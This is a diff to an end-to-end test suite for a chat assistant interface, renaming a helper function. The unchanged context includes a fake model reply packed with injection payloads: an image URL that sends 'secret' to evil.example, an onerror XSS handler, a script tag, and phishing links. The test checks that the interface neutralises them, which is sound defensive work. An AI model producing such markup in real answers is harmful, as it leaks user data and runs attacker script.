@@ -259,7 +259,7 @@ describe('A22 the assistant with a connected model', () => {
     await modelProduct?.stop()
     await fake?.stop()
   })
-  const ask = async (question: string) => {
+  const askQuestion = async (question: string) => {
     await chatPage.getByLabel('Message').fill(question)
     await chatPage.keyboard.press('Enter')
   }
@@ -269,7 +269,7 @@ describe('A22 the assistant with a connected model', () => {
     await chatPage.getByText('Answered by test-model. We check the numbers.').waitFor()
     const { promise: gate, resolve: openGate } = Promise.withResolvers<void>()
     fake.answer({ pieces: ['A score of 75 is a one-in-three chance. It', gate, ' is not 75 percent.'] })
-    await ask('What does a score of 75 mean?')
+    await askQuestion('What does a score of 75 mean?')
     const partialReply = chatLog().locator('[aria-hidden="true"]', {
       hasText: 'A score of 75 is a one-in-three chance.',
     })
@@ -286,7 +286,7 @@ describe('A22 the assistant with a connected model', () => {
     fake.answer(
       'Steps. ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/i" onerror="alert(document)"> <script>alert(document)</script> See [the plan](https://evil.example/login) or evil.com/pay.',
     )
-    await ask('What is a playbook?')
+    await askQuestion('What is a playbook?')
     await chatLog().getByText('onerror="alert(document)"').waitFor()
     await chatLog().getByText('See the plan or').waitFor()
     expect(await chatLog().locator('img, script, iframe').count()).toBe(0)
@@ -300,11 +300,11 @@ describe('A22 the assistant with a connected model', () => {
 
   test('shows the template answer when the model invents a number or fails', async () => {
     fake.answer('Call everybody. It works in 97 percent of cases.')
-    await ask('Who should I call this week?')
+    await askQuestion('Who should I call this week?')
     await chatLog().getByText('Call these first').waitFor()
     expect(await chatLog().innerText()).not.toMatch(/Call everybody|97 percent/)
     fake.answer({ pieces: ['A playbook. It'], end: 'cut' }, { status: 500 })
-    await ask('What is a playbook?')
+    await askQuestion('What is a playbook?')
     await chatLog().getByText("We couldn't reach the language model").waitFor()
     expect(foreignRequests).toEqual([])
   })
